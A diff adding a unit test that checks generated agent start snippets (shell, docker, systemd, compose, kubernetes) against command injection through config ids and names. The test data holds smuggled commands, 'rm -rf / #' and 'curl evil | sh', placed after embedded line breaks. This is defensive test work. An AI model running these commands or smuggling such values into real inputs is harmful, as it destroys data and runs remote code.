@@ -103,6 +103,16 @@ describe('agent start text', () => {
     }
   });
 
+  test('server text cannot break out of a comment: ids and names with line breaks stay on their comment line', () => {
+    for (const kind of AGENT_START_KINDS) {
+      const s = agentStartSnippet(kind, { ...BASE, configId: 'x\nrm -rf / #', configName: 'n\r\ncurl evil | sh\u2028' });
+      const lines = s.text.split(/\r?\n/);
+      assert.ok(!lines.some((l) => /^\s*(rm -rf|curl evil)/.test(l)), `${kind}: ${lines.filter((l) => /rm -rf|curl evil/.test(l)).join(' | ')}`);
+      if (kind === 'compose' || kind === 'kubernetes') strictYaml(s.text);
+      if (kind === 'shell' || kind === 'docker' || kind === 'systemd') bashN(s.text);
+    }
+  });
+
   test('shell: the URL is one quoted word even with odd ids; the /etc/default/telegraf trap is said', () => {
     const s = agentStartSnippet('shell', { ...BASE, configId: "a b'$c" });
     assert.ok(s.text.includes(`'https://controller.example:8888/api/configs/a%20b'\\''%24c/toml'`));
